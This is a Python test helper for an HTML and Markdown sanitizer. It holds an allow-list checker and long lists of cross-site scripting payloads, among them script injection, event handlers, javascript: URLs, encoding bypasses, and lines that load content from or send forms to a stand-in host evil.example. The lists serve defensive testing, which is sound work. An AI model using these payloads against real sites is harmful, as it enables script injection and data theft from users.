"""Hostile inputs, and what may be in an answer to them."""

from collections.abc import Iterator
import re
from xml.etree import ElementTree as ET

# A browser's way of reading broken HTML; bleach ships it, so the tests need no other parser.
from bleach._vendor import html5lib

# Written by hand from the security promises, not imported from the code under test.
_TAGS = """
p br hr h2 h3 h4 h5 h6 em strong del ins sub sup code pre kbd blockquote ul ol li dl dt dd
table thead tbody tfoot tr th td caption a img figure figcaption span
"""
ALLOWED_TAGS = frozenset(_TAGS.split())
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "span": {"class"},
}
ALLOWED_CLASSES = {"analysis", "cite"}
LINK = re.compile(r"(https?://|mailto:|#|/(?!/))[^\s\\]*", re.IGNORECASE)
IMAGE = re.compile(r"/media/(?!.*\.\.)[^\s\\]*")

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "</p></div><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)" alt="y">',
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS')\">",
    "<img src=https://evil.example/pixel.png>",
    "<img src=//evil.example/pixel.png>",
    "<img src=/media/../admin>",
    "<img src='/media/\\..\\x'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img srcset='https://evil.example/x 2x' src=/media/a.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext></form><form><svg><mtext><style><path id='</style><img onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=https://evil.example/><input name=q><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='javascript:123'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=//evil.example/>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='\\\\evil.example\\x'>x</a>",
    "<a href='/\t/evil.example/'>x</a>",
    "<a href=relative/path>x</a>",
    "<a href=https://example.org/ onclick=alert(1) target=_blank style=x id=y>x</a>",
    "<span class='analysis evil' onmouseover=alert(1)>x</span>",
    "<span class=btn style=position:fixed>x</span>",
    "<div class=analysis id=main>x</div>",
    "<h1>Shout</h1>",
    "<p id=x name=y data-z=1 aria-label=2 dir=rtl lang=xx>x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html><head><title>x</title></head><body onload=alert(1)>x",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<td onclick=alert(1)>x</td>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p/onclick=alert(1)>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "<img src='x' onerror='alert(1)'/ onload=alert(2)>",
    '<a href="https://example.org/?a=b&lt;script&gt;">x</a>',
    "<ol start='1' onclick=alert(1) type=a><li value=7>x</ol>",
]
MARKDOWN_XSS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    '[x](https://example.org "title" onclick=alert(1))',
    "[x](https://example.org '\"><script>alert(1)</script>')",
    "[x]: javascript:alert(1)\n\n[x]",
    "[S1]: javascript:alert(1)\n\n[S1]",
    "[S1]: https://evil.example\n\nsee [S1][S1]",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](/media/a.png)',
    '!["><script>alert(1)</script>](/media/a.png)',
    "<javascript:alert(1)>",
    '<https://example.org/"onclick=alert(1)>',
    "<a@b.example?subject=x>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "<div markdown='1'>\n**x**\n</div>",
    "{: onclick=alert(1) }",
    "# x {: #id .class onclick=alert(1)}",
    "[analysis: <script>alert(1)</script>] x",
    "[analysis](javascript:alert(1))",
    "<p>\n\n[x](javascript:alert(1))\n\n</p>",
    "**<img src=x onerror=alert(1)>**",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "term\n: <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    "<scr\\ipt>alert(1)</scr\\ipt>",
    "<!-- [x](javascript:alert(1)) -->",
    "\x02wzxhzdk:0\x03 <b>x</b>",
    "&amp;#x6a;avascript:alert(1)",
]


def violations(html: str) -> list[str]:
    """What in this fragment, as a browser reads it, is not on the allow-list."""
    tree = html5lib.parseFragment(html, container="div", namespaceHTMLElements=False)
    return [found for element in tree.iter() for found in _violations(element)]


def _violations(element: ET.Element) -> Iterator[str]:
    tag = element.tag
    if tag == "DOCUMENT_FRAGMENT":
        return
    if not isinstance(tag, str):
        yield "a comment"
        return
    if tag not in ALLOWED_TAGS:
        yield f"<{tag}>"
    for name, value in element.attrib.items():
        if name not in ALLOWED_ATTRIBUTES.get(tag, set()):
            yield f"<{tag} {name}>"
        elif (
            (name == "href" and not LINK.fullmatch(value))
            or (name == "src" and not IMAGE.fullmatch(value))
            or (name == "class" and value not in ALLOWED_CLASSES)
        ):
            yield f"<{tag} {name}={value!r}>"
